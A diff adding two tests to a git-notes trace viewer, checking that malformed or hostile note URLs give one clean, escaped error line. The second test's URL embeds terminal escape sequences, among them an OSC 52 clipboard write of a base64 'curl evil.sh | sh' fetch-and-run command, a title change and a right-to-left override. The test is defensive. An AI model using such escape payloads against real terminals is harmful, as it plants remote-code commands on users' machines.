@@ -258,3 +258,32 @@ def test_show_reads_a_gemini_legacy_session_written_without_a_final_newline(env:
     text = env.cli("show", second, "-C", str(repo.path)).stdout
     assert "verified" in text and "differs" not in text
     assert "no readable turns" not in text and "Now add tests." in text
+
+
+def test_a_note_url_that_urllib_rejects_is_one_clear_line(env: Env) -> None:
+    """urllib.parse raises ValueError ("Invalid IPv6 URL") for a lone ']' in the host: a
+    teammate's damaged note must still give one `Error:` line, not an unexpected ValueError."""
+    repo = make_repo(env)
+    sha = repo.commit("x")
+    meta = {"url": "https://evil]/buckets/a/b/tree/c", "agent": "codex", "session": "s1", "lines": [1, 1]}
+    meta |= {"bytes": 1, "sha256": "0" * 64}
+    repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
+    proc = env.cli("show", sha, "-C", str(repo.path), check=False)
+    assert (proc.returncode, proc.stderr) == (1, "Error: don't know how to fetch https://evil]/buckets/a/b/tree/c\n")
+
+
+def test_an_error_quoting_a_notes_text_spells_its_control_characters_out(env: Env) -> None:
+    """A note is a teammate's (hostile) text; an error that quotes it (a URL nobody can fetch)
+    reaches stderr, a terminal, through the one error table, which spells control characters out."""
+    repo = make_repo(env)
+    sha = repo.commit("x")
+    url = "gopher://evil\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\u202egnp"
+    meta = {"url": url, "agent": "codex", "session": "s1", "lines": [1, 1], "bytes": 1, "sha256": "0" * 64}
+    repo.git("notes", "--ref=refs/notes/hf-traces", "add", "-m", "hf-trace-meta: " + json.dumps(meta), sha)
+    proc = env.cli("show", sha, "-C", str(repo.path), check=False)
+    assert proc.returncode == 1
+    assert_nothing_reaches_the_terminal(proc.stderr)
+    assert proc.stderr == (
+        "Error: don't know how to fetch gopher://evil\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07"
+        "\\u202egnp\n"
+    )
